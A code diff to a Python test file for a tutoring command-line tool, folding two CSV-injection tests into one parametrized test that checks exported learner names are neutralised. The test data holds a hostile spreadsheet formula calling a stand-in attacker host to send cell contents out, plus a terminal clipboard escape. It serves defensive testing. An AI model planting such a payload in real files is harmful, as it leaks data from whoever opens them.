@@ -21,7 +21,6 @@ import pytest
 from tests.conftest import REPO
 from tutor.cli import main
 from tutor.content.answers import recorded_answer, right_rows
-from tutor.content.loader import load_course
 from tutor.content.model import Course, Question
 from tutor.errors import InputError
 from tutor.exam.learners import LearnerError
@@ -32,13 +31,6 @@ from tutor.exam.spec import spec_for
 from tutor.progress.store import ProgressStore
 
 KEY = SigningKey(b"a-test-key-of-sufficient-length", "test")
-
-
-@pytest.fixture(scope="module")
-def course() -> Course:
-    loaded = load_course(None)
-    assert not loaded.errors
-    return loaded
 
 
 @pytest.fixture
@@ -666,26 +658,24 @@ def test_results_list_shows_control_characters_as_glyphs(
     assert '=HYPERLINK("http://evil.example/?"&A1)␛]52;c;aGk=␇' in out
 
 
-def test_csv_listing_neutralises_formulas_and_controls(
-        with_hostile_name: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    """results list --format csv writes a formula name as text, with its controls visible."""
-    code, out, _ = run(capsys, "results", "list", "--format", "csv",
+# The hostile name as a CSV cell: a leading quote makes it text, its controls are glyphs.
+NEUTRALISED = "'" + '=HYPERLINK("http://evil.example/?"&A1)␛]52;c;aGk=␇'
+
+
+@pytest.mark.parametrize(("command", "expected"), [
+    ("list", {"learner_name": NEUTRALISED, "learner_id": NEUTRALISED, "correct": "10"}),
+    ("export", {"learner": NEUTRALISED, "correct": "10", "result": "failed"}),
+])
+def test_csv_neutralises_formulas_and_controls(
+        command: str, expected: dict[str, str], with_hostile_name: Path,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    """results list and export --format csv write a name a spreadsheet would run as a formula
+    as text (OWASP CSV Injection), its controls visible, and the rest unchanged."""
+    code, out, _ = run(capsys, "results", command, "--format", "csv",
                        "--data-dir", str(with_hostile_name))
     [row] = list(csv.DictReader(io.StringIO(out)))
     assert code == 0 and "\x1b" not in out
-    assert row["learner_name"] == "'" + '=HYPERLINK("http://evil.example/?"&A1)␛]52;c;aGk=␇'
-    assert row["learner_id"] == row["learner_name"] and row["correct"] == "10"
-
-
-def test_csv_export_neutralises_formulas_and_controls(
-        with_hostile_name: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    """A name a spreadsheet would run as a formula is written as text (OWASP CSV Injection)."""
-    code, out, _ = run(capsys, "results", "export", "--format", "csv",
-                       "--data-dir", str(with_hostile_name))
-    [row] = list(csv.DictReader(io.StringIO(out)))
-    assert code == 0 and "\x1b" not in out
-    assert row["learner"] == "'" + '=HYPERLINK("http://evil.example/?"&A1)␛]52;c;aGk=␇'
-    assert row["correct"] == "10" and row["result"] == "failed"  # the rest is unchanged
+    assert {column: row[column] for column in expected} == expected
 
 
 @pytest.mark.parametrize("fmt", ["json", "xapi"])
